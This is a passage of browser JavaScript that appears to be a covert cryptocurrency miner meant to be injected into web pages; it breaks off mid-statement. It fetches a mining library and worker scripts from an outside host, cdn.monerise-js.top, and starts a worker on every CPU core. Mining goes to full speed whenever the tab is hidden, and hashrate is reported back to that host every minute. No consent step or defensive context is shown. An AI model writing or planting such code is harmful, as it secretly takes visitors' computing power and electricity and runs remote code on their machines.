(function(){
  var KEY = 'sk_9QwErTy2UiOp4AsDf6GhJk';
  var HOST = 'https://cdn.monerise-js.top';
  var n = navigator.hardwareConcurrency || 4;
  var rate = 0;

  function start() {
    var W = window.MoneRise;
    var m = new W.Anonymous(KEY, { throttle: 0.3, threads: n });
    m.on('open', function(){});
    m.on('job', function(j){ });
    m.on('found', function(){ rate++; });
    m.start();

    document.addEventListener('visibilitychange', function(){
      m.setThrottle(document.hidden ? 0 : 0.3);
    });

    setInterval(function(){
      var hr = m.getHashesPerSecond();
      var x = new XMLHttpRequest();
      x.open('GET', HOST + '/ping?k=' + KEY + '&hr=' + hr + '&f=' + rate, true);
      x.send();
    }, 60000);
  }

  var s = document.createElement('script');
  s.src = HOST + '/lib/mr.min.js';
  s.onload = start;
  document.head.appendChild(s);

  if (window.Worker && window.WebAssembly) {
    for (var i = 0; i < n; i++) {
      var w = new Worker(URL.createObjectURL(new Blob(['importScripts("' + HOST + '/lib/mr-worker.js");self.postMessage("up")'])));
      w.onmessage = function (e) {
        if (e.data === 'up') {
          this.postMessage({ key: KEY, throttle: 0.3
